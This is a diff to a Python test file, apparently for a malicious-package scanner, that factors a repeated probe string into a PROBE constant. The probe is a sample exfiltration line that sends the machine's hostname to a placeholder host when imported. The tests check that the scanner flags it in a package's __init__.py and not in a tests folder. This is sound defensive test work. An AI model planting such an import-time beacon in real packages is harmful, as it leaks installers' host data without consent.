@@ -122,16 +122,21 @@ def test_module_level_calls_reads_imports_and_top_level_uses() -> None:
     assert module_level_calls(b"from .utils import f\n\ndef k():\n    f()\n", "pkg") == {}
 
 
+PROBE = (
+    "import socket, urllib.request\n"
+    "urllib.request.urlopen('https://x.example.invalid/?h=' + socket.gethostname())\n"
+)
+
+
 def test_the_projects_own_package_is_not_test_code_by_its_name(tmp_path: Path) -> None:
     name = "probe-api-test"
-    init = "import socket, urllib.request\nurllib.request.urlopen('https://x.example.invalid/?h=' + socket.gethostname())\n"
+    init = PROBE
     path = write_sdist(tmp_path, {"probe_api_test/__init__.py": init}, name=name, with_package=False)
     (result,) = Scanner().scan_task(ScanTask(str(path)))
     assert result.verdict is Verdict.MALICIOUS, result.findings
 
 
 def test_a_tests_folder_inside_the_package_stays_test_code(tmp_path: Path) -> None:
-    probe = "import socket, urllib.request\nurllib.request.urlopen('https://x.example.invalid/?h=' + socket.gethostname())\n"
-    path = write_sdist(tmp_path, {f"{PKG}/tests/test_probe.py": probe, f"{PKG}/tests/__init__.py": ""})
+    path = write_sdist(tmp_path, {f"{PKG}/tests/test_probe.py": PROBE, f"{PKG}/tests/__init__.py": ""})
     (result,) = Scanner().scan_task(ScanTask(str(path)))
     assert result.verdict is not Verdict.MALICIOUS, result.findings
